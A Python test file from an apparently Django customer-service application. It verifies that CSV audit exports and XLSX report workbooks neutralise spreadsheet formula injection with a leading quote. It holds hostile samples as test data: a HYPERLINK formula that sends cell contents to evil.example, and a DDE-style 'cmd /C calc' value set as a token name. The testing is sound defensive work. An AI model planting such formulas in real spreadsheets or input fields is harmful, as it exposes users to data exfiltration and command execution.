"""Spreadsheet exports never carry a live formula from text someone typed: the audit CSV
and the report workbook, opened in Excel or WPS, show ``=HYPERLINK(…)`` as text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from kefu.accounts.models import User
from kefu.accounts.services import api_token_create
from kefu.conftest import Tenant, login
from kefu.core.audit import audit_record
from kefu.core.export import csv_row, xlsx_append
from kefu.core.models import AuditAction

PAYLOAD = '=HYPERLINK("http://evil.example/?"&B2&C2,"查看")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (PAYLOAD, "'" + PAYLOAD),
        ("+86 138", "'+86 138"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("回拨客户 =1", "回拨客户 =1"),
        ("", ""),
        (-5, -5),
        (0.25, 0.25),
        (None, None),
    ],
)
def test_csv_cells_that_would_run_start_with_a_quote(value: object, written: object) -> None:
    assert csv_row([value]) == [written]


def test_xlsx_text_stays_text_and_numbers_stay_numbers() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    xlsx_append(sheet, [PAYLOAD, "#N/A", "-3", -3, 0.5, "普通文字"])
    out = io.BytesIO()
    book.save(out)
    row = load_workbook(io.BytesIO(out.getvalue())).active[1]
    assert [c.data_type for c in row] == ["s", "s", "s", "n", "n", "s"]
    assert row[0].value == PAYLOAD and row[0].quotePrefix
    assert row[3].value == -3 and not row[3].quotePrefix
    assert not row[5].quotePrefix


@pytest.mark.django_db
def test_audit_csv_shows_a_formula_reason_and_token_name_as_text(
    tenant_a: Tenant, admin_user: User
) -> None:
    audit_record(
        actor=tenant_a.agent, action=AuditAction.REVEAL, obj=tenant_a.customer, reason=PAYLOAD
    )
    api_token_create(user=tenant_a.agent, name="@SUM(1+1)*cmd|' /C calc'!A0")
    response = login(admin_user).get("/privacy/audit/export.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + PAYLOAD in cells
    assert PAYLOAD not in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells


@pytest.mark.django_db
def test_report_workbook_keeps_typed_text_out_of_formulas(tenant_a: Tenant) -> None:
    from kefu.contracts.models import Contract, ImprovementGoal, KpiTarget
    from kefu.reports import services

    contract = Contract.objects.create(
        client=tenant_a.client,
        number="C-1",
        title="测试合同",
        party_a="甲",
        party_b="乙",
        start_date="2026-01-01",
        end_date="2026-12-31",
        monthly_fee=100000,
    )
    KpiTarget.objects.create(
        contract=contract, kpi="fcr", label=PAYLOAD, comparison=">=", target=0.75, order=0
    )
    ImprovementGoal.objects.create(
        contract=contract,
        kpi="csat",
        baseline=0.5,
        target=0.6,
        due="2026-12-31",
        actions=[{"description": PAYLOAD, "owner": "+周主管", "due": None, "status": "doing"}],
    )
    data = services.report_build(tenant_a.client, "2026-10")
    book = load_workbook(io.BytesIO(services.render_xlsx(data)))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value in (PAYLOAD, "+周主管"):
                    assert cell.data_type == "s" and cell.quotePrefix
                    found.append(cell.value)
    assert sorted(found) == sorted([PAYLOAD, PAYLOAD, "+周主管"])
    # Figures are still numbers a client can calculate with.
    contract_rows = {r[1]: r for r in book["合同考核 Contract"].iter_rows(values_only=True)}
    assert isinstance(contract_rows["fcr"][6], int | float)
